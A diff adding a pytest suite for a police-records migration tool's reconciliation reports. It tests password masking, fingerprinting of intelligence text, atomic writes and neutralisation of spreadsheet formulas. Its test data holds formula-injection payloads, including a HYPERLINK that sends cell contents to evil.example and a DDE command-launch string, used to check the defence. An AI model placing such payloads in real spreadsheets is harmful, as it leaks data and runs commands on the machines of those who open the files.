@@ -1,0 +1,625 @@
+"""The reconciliation reports, read back the way an auditor's tools would read them.
+
+Results are built by hand so every awkward value is present: non-ASCII names, commas,
+quotes and line breaks, text a spreadsheet would run as a formula, negative numbers, NULLs,
+fingerprinted intelligence text, and a spool that is iterable but not a list.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import json
+import os
+import stat
+import zipfile
+from collections import Counter
+from pathlib import Path
+
+import openpyxl
+import pytest
+from hypothesis import given, strategies as st
+
+import reports.reconciliation as recon_reports
+from core.digest import text_fingerprint
+from core.errors import OutputError
+from reconcile.model import (CATEGORIES, DISCREPANCY_COLUMNS, ENTITIES, STATS_COLUMNS, Discrepancy,
+                             EntityTotals, ReconResult, StatRow)
+from reports import xlsx
+from reports.reconciliation import FILE_NAMES, ReportInconsistent, format_score, write_reconciliation_reports
+from reports.safe import mask_credentials, needs_neutralising, neutralise
+from reports.text_reconcile import render_demo, render_reconciliation, render_simulation
+
+UTC = dt.timezone.utc
+SECRET_INTEL = "Subject X meets courier at the Red Lion every Friday"
+PASSWORD = "s3cret-Pa55"
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+44 161 555 0100", "-cmd|' /C calc'!A0",
+              "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]
+
+
+class Spool:
+    """Re-iterable like the reconciler's on-disk spool: no len(), no indexing; counts passes."""
+
+    def __init__(self, rows):
+        self._rows = tuple(rows)
+        self.passes = 0
+
+    def __iter__(self):
+        self.passes += 1
+        yield from self._rows
+
+
+def tricky_discrepancies() -> list[Discrepancy]:
+    fp = text_fingerprint
+    return [
+        Discrepancy("crime", "MISSING", "CR/000101/19", detail="BAD_REFERENCE"),
+        Discrepancy("crime", "MISSING", "CR/000102/19", detail=INJECTIONS[0]),
+        Discrepancy("crime", "MISSING", "CR/000103/19", detail="Zoë Ó'Brien, Ćwikła — “quoted”"),
+        Discrepancy("crime", "ALTERED", "CR/000201/19", "CR/000201/19", "location.address",
+                    'Flat 2, "The Mill"\nBolton', 'Flat 2, "The Mill"\nBolton', "Flat 2, The Mill, Bolton"),
+        Discrepancy("crime", "ALTERED", "CR/000202/19", "CR/000202/19", "location.longitude",
+                    "-2.500000", "-2.500000", "-1"),
+        Discrepancy("crime", "ALTERED", "CR/000203/19", "CR/000203/19", "victim_phone",
+                    INJECTIONS[1], INJECTIONS[1], INJECTIONS[2]),
+        Discrepancy("crime", "ALTERED", "CR/000204/19", "CR/000204/19", "mo_text",
+                    INJECTIONS[3], INJECTIONS[3], None, detail="TRUNCATED"),
+        Discrepancy("crime", "ALTERED", "CR/000205/19", "CR/000205/19", "recorded_at",
+                    "2019-03-31T00:30:00Z", "2019-03-31T00:30:00Z", "2019-03-31T01:30:00Z", detail="OFFSET_1H"),
+        Discrepancy("crime", "DUPLICATE", "CR/000301/19", "CR/000301/19", detail=INJECTIONS[4]),
+        Discrepancy("crime", "UNEXPECTED", "CR/999999/19", "CR/999999/19", detail=INJECTIONS[5]),
+        Discrepancy("crime", "PROBABLE_MATCH", "CR/000401/19", "CR/900401/24", score=93.456, detail="AUTO"),
+        Discrepancy("crime", "PROBABLE_MATCH", "CR/000402/19", "CR/900402/24", score=100.0, detail="AUTO"),
+        Discrepancy("crime", "PROBABLE_MATCH", "CR/000403/19", "CR/900403/24", score=71.04, detail="REVIEW"),
+        Discrepancy("intelligence", "MISSING", "IN/000001/19", detail="EMPTY_INTELLIGENCE"),
+        Discrepancy("intelligence", "ALTERED", "IN/000002/19", "INT-2019-000002", "intel_text",
+                    fp(SECRET_INTEL), fp(SECRET_INTEL), fp(SECRET_INTEL[:20]), detail="TRUNCATED"),
+        Discrepancy("intelligence", "ALTERED", "IN/000003/19", "INT-2019-000003", "handling_code", "P", "P", "C"),
+        Discrepancy("person", "MISSING", "70031", detail="#DIV/0!"),
+        Discrepancy("person", "ALTERED", "70032", "7d4c2a9e-0000-4000-8000-000000000001", "surname",
+                    "O'Neill", "O'NEILL", "Ó Néill"),
+        Discrepancy("person", "UNEXPECTED", None, "7d4c2a9e-0000-4000-8000-000000000002"),
+        Discrepancy("crime_person", "MISSING", "CR/004512/19:70031:VICTIM"),
+        Discrepancy("crime_person", "UNEXPECTED", "CR/004512/19:70099:SUSPECT"),
+    ]
+
+
+def tricky_stats() -> list[StatRow]:
+    rows = []
+    for month in ("2019-01", "2019-02", "2019-03"):
+        for district in ("BOLTON", "WIGAN", "UNKNOWN"):
+            for group in ("THEFT", "VIOLENCE", "=BURGLARY"):
+                legacy = 10 + len(district)
+                new = legacy - (1 if (month, district) == ("2019-02", "WIGAN") else 0) + (2 if group == "THEFT" and month == "2019-03" else 0)
+                rows.append(StatRow(month, district, group, legacy, new, legacy // 5, new // 5))
+    return rows
+
+
+def totals_for(discrepancies, stats=None) -> dict[str, EntityTotals]:
+    totals = {e: EntityTotals(e, legacy_total=1000 + i, legacy_excluded=i, new_total=990 + i,
+                              matched_keyed=950, matched_auto=3, new_in_iops=2) for i, e in enumerate(ENTITIES)}
+    for d in discrepancies:
+        totals[d.entity].categories[d.category] += 1
+    return totals
+
+
+def make_result(discrepancies=None, stats=None, *, target_url=f"postgresql+psycopg://auditor:***@db.example/iops",
+                thresholds=None) -> ReconResult:
+    discrepancies = tricky_discrepancies() if discrepancies is None else discrepancies
+    stats = tricky_stats() if stats is None else stats
+    return ReconResult(
+        legacy_url="mysql+pymysql://root@127.0.0.1:3306/opus",
+        target_url=target_url,
+        started_at=dt.datetime(2024, 5, 1, 9, 0, 5, tzinfo=UTC),
+        finished_at=dt.datetime(2024, 5, 1, 10, 2, 13, tzinfo=dt.timezone(dt.timedelta(hours=1))),
+        tool_version="0.1.0",
+        mapping_digest="sha256:0123456789abcdef",
+        thresholds=thresholds or {"auto": 90.0, "review": 70.0, "fail": 0},
+        totals=totals_for(discrepancies),
+        discrepancies=Spool(discrepancies),
+        stats=stats,
+    )
+
+
+def expected_csv_row(d: Discrepancy) -> list[str]:
+    out = []
+    for name, value in zip(DISCREPANCY_COLUMNS, d.as_row()):
+        if value is None:
+            out.append("")
+        elif name == "score":
+            out.append(format_score(value))
+        else:
+            out.append(neutralise(value))
+    return out
+
+
+def read_csv(path: Path) -> list[list[str]]:
+    with open(path, encoding="utf-8", newline="") as f:
+        return list(csv.reader(f))
+
+
+def group_of(title: str) -> tuple[str, str]:
+    entity, category = title.split(" (")[0].split(" ")
+    return entity, category
+
+
+def data_sheets(wb) -> list[str]:
+    return [t for t in wb.sheetnames if t.split(" (")[0] not in
+            ("Summary", "Crime statistics", "Monthly totals", "Run information")]
+
+
+@pytest.fixture
+def written(tmp_path):
+    result = make_result()
+    paths = write_reconciliation_reports(result, tmp_path / "reports")
+    return result, paths
+
+
+# ---- files and folder ---------------------------------------------------------------------
+def test_four_files_owner_only_and_nothing_else(written):
+    result, paths = written
+    assert set(paths) == set(FILE_NAMES)
+    folder = paths["summary"].parent
+    assert sorted(p.name for p in folder.iterdir()) == sorted(FILE_NAMES.values())
+    for path in paths.values():
+        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path
+    assert result.report_paths == paths and result.out_dir == folder
+
+
+def test_spool_is_read_once_and_need_not_be_a_list(written):
+    result, _ = written
+    assert not isinstance(result.discrepancies, (list, tuple))
+    assert result.discrepancies.passes == 1
+
+
+def test_unwritable_folder_is_one_line_output_error(tmp_path):
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a folder")
+    for out_dir in (blocker / "reports", blocker):
+        with pytest.raises(OutputError) as err:
+            write_reconciliation_reports(make_result(), out_dir)
+        assert "\n" not in str(err.value) and str(out_dir) in str(err.value)
+
+
+def test_permission_denied_is_output_error(tmp_path, monkeypatch):
+    # Simulated: as root a mode-0500 folder is writable, so deny at the system call instead.
+    folder = tmp_path / "denied"
+    real_open = os.open
+
+    def deny(path, *args, **kwargs):
+        if str(path).startswith(str(folder)):
+            raise PermissionError(13, "Permission denied", str(path))
+        return real_open(path, *args, **kwargs)
+
+    monkeypatch.setattr(os, "open", deny)
+    with pytest.raises(OutputError, match="Permission denied"):
+        write_reconciliation_reports(make_result(), folder)
+    monkeypatch.undo()
+    assert list(folder.iterdir()) == []
+
+
+def _boom(*args, **kwargs):
+    raise RuntimeError("simulated failure while writing")
+
+
+@pytest.mark.parametrize("where", ["workbook-save", "summary-sheet", "stats", "json"])
+def test_failure_mid_write_publishes_nothing_and_keeps_the_previous_set(tmp_path, monkeypatch, where):
+    out_dir = tmp_path / "reports"
+    write_reconciliation_reports(make_result(), out_dir)
+    before = {name: (out_dir / name).read_bytes() for name in FILE_NAMES.values()}
+
+    targets = {
+        "workbook-save": (openpyxl.Workbook, "save"),
+        "summary-sheet": (recon_reports, "_summary_sheet"),
+        "stats": (recon_reports, "_write_stats"),
+        "json": (recon_reports, "_summary_document"),
+    }
+    monkeypatch.setattr(*targets[where], _boom)
+    with pytest.raises(RuntimeError, match="simulated"):
+        write_reconciliation_reports(make_result(), out_dir)
+    # The earlier complete set is untouched, and no temporary file is left behind.
+    assert sorted(p.name for p in out_dir.iterdir()) == sorted(FILE_NAMES.values())
+    assert {name: (out_dir / name).read_bytes() for name in FILE_NAMES.values()} == before
+
+
+def test_failure_mid_write_in_a_fresh_folder_leaves_no_report(tmp_path, monkeypatch):
+    monkeypatch.setattr(openpyxl.Workbook, "save", _boom)
+    out_dir = tmp_path / "fresh"
+    with pytest.raises(RuntimeError):
+        write_reconciliation_reports(make_result(), out_dir)
+    assert list(out_dir.iterdir()) == []
+
+
+def test_disk_error_becomes_output_error_and_cleans_up(tmp_path, monkeypatch):
+    def full(*args, **kwargs):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(openpyxl.Workbook, "save", full)
+    out_dir = tmp_path / "full"
+    with pytest.raises(OutputError, match="No space left on device"):
+        write_reconciliation_reports(make_result(), out_dir)
+    assert list(out_dir.iterdir()) == []
+
+
+def test_rename_failing_half_way_leaves_no_half_set(tmp_path, monkeypatch):
+    real_replace = os.replace
+    calls = []
+
+    def flaky(src, dst):
+        calls.append(dst)
+        if len(calls) == 3:
+            raise OSError(5, "Input/output error")
+        return real_replace(src, dst)
+
+    monkeypatch.setattr(os, "replace", flaky)
+    out_dir = tmp_path / "half"
+    with pytest.raises(OutputError):
+        write_reconciliation_reports(make_result(), out_dir)
+    assert list(out_dir.iterdir()) == []
+
+
+def test_totals_that_disagree_with_rows_are_refused(tmp_path):
+    result = make_result()
+    result.totals["crime"].categories["MISSING"] += 1
+    with pytest.raises(ReportInconsistent, match="crime MISSING"):
+        write_reconciliation_reports(result, tmp_path / "r")
+    assert list((tmp_path / "r").iterdir()) == []
+
+
+# ---- discrepancies.csv --------------------------------------------------------------------
+def test_discrepancies_csv_is_rfc4180_and_equals_the_rows(written):
+    _, paths = written
+    raw = paths["discrepancies"].read_bytes()
+    raw.decode("utf-8")  # UTF-8 throughout
+    assert raw.startswith(b"entity,category,") and raw.endswith(b"\r\n")
+    rows = read_csv(paths["discrepancies"])
+    assert rows[0] == list(DISCREPANCY_COLUMNS)
+    assert rows[1:] == [expected_csv_row(d) for d in tricky_discrepancies()]
+
+
+def test_csv_neutralises_formulas_but_not_negative_numbers(written):
+    _, paths = written
+    cells = [c for row in read_csv(paths["discrepancies"])[1:] for c in row]
+    for text in INJECTIONS:
+        assert "'" + text in cells, text
+        assert text not in cells
+    assert "-2.500000" in cells and "-1" in cells  # negative numbers are data
+    assert not [c for c in cells if needs_neutralising(c)]
+    by_ref = {row[2]: row for row in read_csv(paths["discrepancies"])[1:]}
+    assert by_ref["CR/000201/19"][5] == 'Flat 2, "The Mill"\nBolton'  # commas, quotes, newline kept
+    assert by_ref["CR/000103/19"][9] == "Zoë Ó'Brien, Ćwikła — “quoted”"
+    assert by_ref["CR/000204/19"][7] == ""  # None -> empty cell
+    assert [by_ref[r][8] for r in ("CR/000401/19", "CR/000402/19", "CR/000403/19")] == ["93.5", "100.0", "71.0"]
+
+
+def test_crime_stats_csv(written):
+    _, paths = written
+    rows = read_csv(paths["crime_stats"])
+    assert rows[0] == list(STATS_COLUMNS)
+    stats = tricky_stats()
+    assert len(rows) == len(stats) + 1
+    for row, s in zip(rows[1:], stats):
+        assert row[0] == s.month and row[1] == s.district_code
+        assert row[2] == neutralise(s.offence_group)
+        assert [int(v) for v in row[3:]] == [s.legacy_count, s.new_count, s.delta, s.legacy_no_location, s.new_no_location]
+    assert any(int(r[5]) < 0 for r in rows[1:]) and any(int(r[5]) > 0 for r in rows[1:])
+
+
+# ---- summary.json -------------------------------------------------------------------------
+def test_summary_json(written):
+    result, paths = written
+    doc = json.loads(paths["summary"].read_text(encoding="utf-8"))
+    counts = Counter((d.entity, d.category) for d in tricky_discrepancies())
+    assert doc["result"] == "FAIL" and doc["exit_code"] == 1
+    for entity in ENTITIES:
+        for category in CATEGORIES:
+            assert doc["entities"][entity]["categories"][category] == counts[(entity, category)]
+        for attr in ("legacy_total", "legacy_excluded", "new_total", "matched_keyed", "matched_auto", "new_in_iops"):
+            assert doc["entities"][entity][attr] == getattr(result.totals[entity], attr)
+    assert doc["categories"]["ALTERED"] == sum(n for (e, c), n in counts.items() if c == "ALTERED")
+    assert doc["discrepancies"] == len(tricky_discrepancies())
+    assert doc["counted_failures"] == result.counted_failures
+    assert doc["thresholds"] == {"auto": 90.0, "review": 70.0, "fail": 0}
+    assert doc["started_at"] == "2024-05-01T09:00:05Z"
+    assert doc["finished_at"] == "2024-05-01T09:02:13Z"  # given in UTC+1, written as UTC
+    assert doc["tool_version"] == "0.1.0" and doc["mapping_digest"] == "sha256:0123456789abcdef"
+    assert doc["files"] == FILE_NAMES
+    assert doc["crime_stats"]["legacy_count"] == sum(s.legacy_count for s in tricky_stats())
+
+
+def test_pass_result(tmp_path):
+    result = make_result(discrepancies=[], thresholds={"auto": 90.0, "review": 70.0, "fail": 0})
+    paths = write_reconciliation_reports(result, tmp_path / "ok")
+    assert json.loads(paths["summary"].read_text())["result"] == "PASS"
+    assert read_csv(paths["discrepancies"]) == [list(DISCREPANCY_COLUMNS)]
+    wb = openpyxl.load_workbook(paths["workbook"])
+    assert wb.sheetnames == ["Summary", "Crime statistics", "Monthly totals", "Run information"]
+    assert "PASS" in [c.value for row in wb["Summary"].iter_rows() for c in row]
+
+
+def test_probable_matches_alone_do_not_fail(tmp_path):
+    pairs = [Discrepancy("crime", "PROBABLE_MATCH", f"CR/{i:06d}/19", f"CR/9{i:05d}/24", score=95.0, detail="AUTO")
+             for i in range(3)]
+    paths = write_reconciliation_reports(make_result(discrepancies=pairs), tmp_path / "pm")
+    doc = json.loads(paths["summary"].read_text())
+    assert doc["result"] == "PASS" and doc["discrepancies"] == 3 and doc["counted_failures"] == 0
+
+
+# ---- passwords and intelligence text ------------------------------------------------------
+def _all_text(paths) -> str:
+    parts = [paths[k].read_text(encoding="utf-8") for k in ("discrepancies", "crime_stats", "summary")]
+    with zipfile.ZipFile(paths["workbook"]) as z:
+        parts += [z.read(name).decode("utf-8") for name in z.namelist() if name.endswith(".xml")]
+    return "\n".join(parts)
+
+
+def test_passwords_masked_everywhere_even_if_given_unmasked(tmp_path):
+    result = make_result(target_url=f"postgresql+psycopg://auditor:{PASSWORD}@db.example/iops")
+    paths = write_reconciliation_reports(result, tmp_path / "pw")
+    text = _all_text(paths) + render_reconciliation(result)
+    assert PASSWORD not in text
+    assert "postgresql+psycopg://auditor:***@db.example/iops" in text
+
+
+def test_intelligence_text_never_appears_even_if_the_reconciler_slipped(tmp_path):
+    leaked = Discrepancy("intelligence", "ALTERED", "IN/000009/19", "INT-2019-000009", "intel_text",
+                         SECRET_INTEL, SECRET_INTEL, SECRET_INTEL + " (edited)")
+    discrepancies = tricky_discrepancies() + [leaked]
+    paths = write_reconciliation_reports(make_result(discrepancies), tmp_path / "intel")
+    text = _all_text(paths)
+    assert "Red Lion" not in text
+    rows = {r[2]: r for r in read_csv(paths["discrepancies"])[1:]}
+    assert rows["IN/000009/19"][5] == text_fingerprint(SECRET_INTEL)
+    assert rows["IN/000009/19"][7] == text_fingerprint(SECRET_INTEL + " (edited)")
+    assert rows["IN/000002/19"][5] == text_fingerprint(SECRET_INTEL)  # already a fingerprint: kept
+
+
+# ---- the workbook -------------------------------------------------------------------------
+@pytest.fixture
+def workbook(written):
+    result, paths = written
+    return result, paths, openpyxl.load_workbook(paths["workbook"])
+
+
+def test_sheet_order_summary_first(workbook):
+    _, _, wb = workbook
+    assert wb.sheetnames == [
+        "Summary",
+        "crime MISSING", "crime ALTERED", "crime DUPLICATE", "crime UNEXPECTED", "crime PROBABLE_MATCH",
+        "intelligence MISSING", "intelligence ALTERED",
+        "person MISSING", "person ALTERED", "person UNEXPECTED",
+        "crime_person MISSING", "crime_person UNEXPECTED",
+        "Crime statistics", "Monthly totals", "Run information",
+    ]
+    assert wb.active.title == "Summary"
+    assert all(len(t) <= 31 for t in wb.sheetnames)
+
+
+def test_discrepancy_sheets_match_the_csv(workbook):
+    _, paths, wb = workbook
+    csv_rows = read_csv(paths["discrepancies"])[1:]
+    per_group = Counter((r[0], r[1]) for r in csv_rows)
+    seen = Counter()
+    for title in data_sheets(wb):
+        ws = wb[title]
+        assert [c.value for c in ws[1]][: len(DISCREPANCY_COLUMNS)] == list(DISCREPANCY_COLUMNS)
+        assert ws.freeze_panes == "A2"
+        assert ws.auto_filter.ref == f"A1:J{ws.max_row}"
+        rows = list(ws.iter_rows(min_row=2, max_col=len(DISCREPANCY_COLUMNS), values_only=True))
+        seen[group_of(title)] += len(rows)
+        # XML reads a carriage return back as a line feed; the workbook writes it so.
+        expected = [[v.replace("\r\n", "\n").replace("\r", "\n") for v in r]
+                    for r in csv_rows if (r[0], r[1]) == group_of(title)]
+        as_text = [["" if v is None else format_score(v) if i == 8 else v for i, v in enumerate(row)] for row in rows]
+        assert as_text == expected
+        for letter in "ABCDEFGHIJ":  # readable widths, set for every column
+            assert 8 <= ws.column_dimensions[letter].width <= 60
+    assert seen == per_group
+
+
+def test_altered_values_are_marked(workbook):
+    _, _, wb = workbook
+    ws = wb["crime ALTERED"]
+    for row in ws.iter_rows(min_row=2, max_col=10):
+        expected_cell, new_cell, legacy_cell = row[6], row[7], row[5]
+        assert expected_cell.fill.fgColor.rgb.endswith(xlsx.EXPECTED_FILL.fgColor.rgb[-6:])
+        assert new_cell.fill.fgColor.rgb.endswith(xlsx.DIFFERS_FILL.fgColor.rgb[-6:])  # even when empty
+        assert legacy_cell.fill.fill_type is None
+    assert wb["crime MISSING"]["H2"].fill.fill_type is None
+
+
+def test_no_formula_anywhere_and_injection_neutralised(workbook):
+    _, _, wb = workbook
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str):
+                    assert not needs_neutralising(c.value), (ws.title, c.coordinate, c.value)
+                    texts.append(c.value)
+    for text in INJECTIONS:
+        assert "'" + text.replace("\r", "\n") in texts
+    assert "-2.500000" in texts and "-1" in texts
+    assert "#DIV/0!" in texts  # an error-code look-alike stays text
+    assert wb["person MISSING"]["J2"].data_type == "s"
+
+
+def test_summary_links_to_every_sheet(workbook):
+    _, _, wb = workbook
+    targets = set()
+    for row in wb["Summary"].iter_rows():
+        for c in row:
+            if c.hyperlink is not None:
+                assert c.hyperlink.location and not c.hyperlink.target  # inside the workbook
+                targets.add(c.hyperlink.location.rsplit("!", 1)[0].strip("'").replace("''", "'"))
+    assert targets == set(wb.sheetnames) - {"Summary"}
+    for title in data_sheets(wb) + ["Crime statistics", "Monthly totals"]:  # and back
+        back = [c for c in wb[title][1] if c.hyperlink is not None]
+        assert [c.hyperlink.location for c in back] == ["'Summary'!A1"], title
+
+
+def _summary_table(ws):
+    rows = [[c.value for c in row] for row in ws.iter_rows()]
+    start = next(i for i, r in enumerate(rows) if r[0] == "Entity")
+    header = rows[start]
+    table = {}
+    for r in rows[start + 1:]:
+        if r[0] == "All entities":
+            break
+        table[r[0]] = dict(zip(header[1:], r[1:]))
+    return table
+
+
+def test_summary_totals_equal_summary_json_and_csv(workbook):
+    result, paths, wb = workbook
+    doc = json.loads(paths["summary"].read_text())
+    ws = wb["Summary"]
+    table = _summary_table(ws)
+    assert list(table) == list(ENTITIES)
+    csv_counts = Counter((r[0], r[1]) for r in read_csv(paths["discrepancies"])[1:])
+    for entity, cols in table.items():
+        for category in CATEGORIES:
+            assert cols[category] == doc["entities"][entity]["categories"][category] == csv_counts[(entity, category)]
+        assert cols["Legacy live"] == result.totals[entity].legacy_total
+        assert cols["New total"] == result.totals[entity].new_total
+        assert cols["Discrepancies"] == doc["entities"][entity]["discrepancies"]
+    values = [c.value for row in ws.iter_rows() for c in row]
+    assert "FAIL" in values
+    assert "mysql+pymysql://root@127.0.0.1:3306/opus" in values
+
+
+def test_crime_statistics_sheet_and_chart(workbook):
+    _, _, wb = workbook
+    ws = wb["Crime statistics"]
+    assert [c.value for c in ws[1]][: len(STATS_COLUMNS)] == list(STATS_COLUMNS)
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
+    stats = tricky_stats()
+    rows = list(ws.iter_rows(min_row=2, max_col=len(STATS_COLUMNS)))
+    assert len(rows) == len(stats)
+    for row, s in zip(rows, stats):
+        assert isinstance(row[0].value, dt.datetime) and row[0].number_format == "yyyy-mm"
+        assert row[0].value == dt.datetime(int(s.month[:4]), int(s.month[5:]), 1)
+        assert row[5].value == s.delta
+    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
+    assert any(r.operator == "lessThan" and r.formula == ["0"] and r.dxf.fill is not None for r in rules)
+    assert any("F2" in str(cf.sqref) for cf in ws.conditional_formatting)
+
+    monthly = wb["Monthly totals"]
+    months = list(monthly.iter_rows(min_row=2, max_col=4, values_only=True))
+    assert [m[0] for m in months] == [dt.datetime(2019, 1, 1), dt.datetime(2019, 2, 1), dt.datetime(2019, 3, 1)]
+    for month, legacy, new, delta in months:
+        key = month.strftime("%Y-%m")
+        assert legacy == sum(s.legacy_count for s in stats if s.month == key)
+        assert new == sum(s.new_count for s in stats if s.month == key)
+        assert delta == new - legacy
+    assert len(monthly._charts) == 1
+
+
+def test_run_information_has_real_datetimes(workbook):
+    result, _, wb = workbook
+    ws = wb["Run information"]
+    info = {row[0].value: row[1].value for row in ws.iter_rows(min_row=3) if row[0].value}
+    assert info["Started (UTC)"] == dt.datetime(2024, 5, 1, 9, 0, 5)
+    assert info["Finished (UTC)"] == dt.datetime(2024, 5, 1, 9, 2, 13)
+    assert info["Tool version"] == "opus2iops 0.1.0"
+    assert info["Mapping digest (code tables used)"] == "sha256:0123456789abcdef"
+    assert info["New store (iOPS)"] == "postgresql+psycopg://auditor:***@db.example/iops"
+    assert info["Threshold: review"] == 70
+
+
+def test_row_limit_splits_onto_numbered_sheets(tmp_path, monkeypatch):
+    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 10)  # 9 data rows per sheet
+    rows = [Discrepancy("crime", "MISSING", f"CR/{i:06d}/19", detail="NOT_MIGRATED") for i in range(25)]
+    rows += [Discrepancy("person", "MISSING", str(70000 + i)) for i in range(9)]
+    paths = write_reconciliation_reports(make_result(rows, stats=[]), tmp_path / "split")
+    wb = openpyxl.load_workbook(paths["workbook"])
+    assert data_sheets(wb) == ["crime MISSING", "crime MISSING (2)", "crime MISSING (3)", "person MISSING"]
+    assert [wb[t].max_row - 1 for t in data_sheets(wb)] == [9, 9, 7, 9]
+    refs = [r[0] for t in data_sheets(wb)[:3] for r in wb[t].iter_rows(min_row=2, max_col=3, values_only=True)]
+    assert refs == ["crime"] * 25
+    assert [r[2] for r in read_csv(paths["discrepancies"])[1:26]] == [
+        v for t in data_sheets(wb)[:3] for (v,) in wb[t].iter_rows(min_row=2, min_col=3, max_col=3, values_only=True)]
+    links = {c.hyperlink.location for row in wb["Summary"].iter_rows() for c in row if c.hyperlink}
+    assert {"'crime MISSING (2)'!A1", "'crime MISSING (3)'!A1"} <= links
+    assert len(read_csv(paths["discrepancies"])) == 1 + 34  # the CSV always holds everything
+
+
+def test_awkward_text_in_the_workbook(tmp_path):
+    long_text = "x" * 40_000
+    rows = [
+        Discrepancy("crime", "ALTERED", "CR/000001/19", "CR/000001/19", "mo_text", long_text, long_text, "short"),
+        Discrepancy("crime", "ALTERED", "CR/000002/19", "CR/000002/19", "mo_text", "bell\x07here", "a\nb\nc", "d"),
+    ]
+    paths = write_reconciliation_reports(make_result(rows), tmp_path / "awk")
+    csv_rows = read_csv(paths["discrepancies"])
+    assert csv_rows[1][5] == long_text and csv_rows[2][5] == "bell\x07here"  # the CSV holds it all
+    ws = openpyxl.load_workbook(paths["workbook"])["crime ALTERED"]
+    assert len(ws["F2"].value) <= xlsx.MAX_CELL_CHARS and "the CSV holds the whole value" in ws["F2"].value
+    assert ws["F3"].value == "bell\\x07here"
+    assert ws["G3"].value == "a\nb\nc" and ws["G3"].alignment.wrap_text
+    assert ws.row_dimensions[3].height == 3 * xlsx.LINE_HEIGHT
+
+
+# ---- console text -------------------------------------------------------------------------
+def test_console_summary(written):
+    result, paths = written
+    text = render_reconciliation(result)
+    assert text.startswith("Reconciliation FAIL")
+    assert "postgresql+psycopg://auditor:***@db.example/iops" in text
+    for path in paths.values():
+        assert str(path) in text
+    crime_line = next(line for line in text.splitlines() if line.strip().startswith("crime "))
+    assert crime_line.split()[3:] == ["3", "5", "1", "1", "3"]  # MISSING ALTERED DUPLICATE UNEXPECTED PROBABLE_MATCH
+
+
+def test_simulation_and_demo_render_what_their_result_says():
+    class WithLines:
+        def summary_lines(self):
+            return ["simulated 12 lost crimes", f"target postgresql://u:{PASSWORD}@h/db"]
+
+    text = render_simulation(WithLines())
+    assert text.splitlines()[0] == "simulated 12 lost crimes" and PASSWORD not in text
+    assert render_demo(WithLines()) == text
+    assert render_demo("demo written to ./demo") == "demo written to ./demo"
+
+
+# ---- rules in isolation -------------------------------------------------------------------
+@pytest.mark.parametrize("text,expected", [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-cmd", "'-cmd"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("-2.5", "-2.5"), ("-1", "-1"), ("+44", "+44"), ("1e-3", "1e-3"), ("-", "'-"), ("", ""), ("plain", "plain"),
+    ("O'Brien", "O'Brien"), (" =1", " =1"),
+])
+def test_neutralise(text, expected):
+    assert neutralise(text) == expected
+
+
+@given(st.text())
+def test_neutralised_text_never_starts_a_formula(text):
+    out = neutralise(text)
+    assert not needs_neutralising(out)
+    assert out in (text, "'" + text)
+    assert neutralise(out) == out
+
+
+@given(user=st.from_regex(r"[a-z][a-z0-9_]{0,10}", fullmatch=True),
+       password=st.text(alphabet=st.characters(blacklist_characters="@/ \t\r\n\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0",
+                                               blacklist_categories=("Cs", "Zs", "Zl", "Zp", "Cc")), min_size=1))
+def test_mask_credentials(user, password):
+    url = f"postgresql+psycopg://{user}:{password}@db.example:5432/iops"
+    assert mask_credentials(url) == f"postgresql+psycopg://{user}:***@db.example:5432/iops"
+    assert mask_credentials(mask_credentials(url)) == mask_credentials(url)
+
+
+def test_mask_leaves_passwordless_urls_alone():
+    for url in ("sqlite:///opus.db", "mysql+pymysql://root@127.0.0.1:3306/opus", "postgresql://h:5432/db"):
+        assert mask_credentials(url) == url
+
+
+def test_sheet_titles_are_valid_and_unique():
+    taken: set[str] = set()
+    assert xlsx.sheet_title("crime MISSING", taken) == "crime MISSING"
+    assert xlsx.sheet_title("CRIME missing", taken) == "CRIME missing ~2"  # Excel ignores case
+    assert xlsx.sheet_title("a/b:c?d*e[f]g\\h", taken) == "a_b_c_d_e_f_g_h"
+    long = xlsx.sheet_title("crime_person PROBABLE_MATCH", taken, " (10)")
+    assert len(long) <= 31 and long.endswith(" (10)")
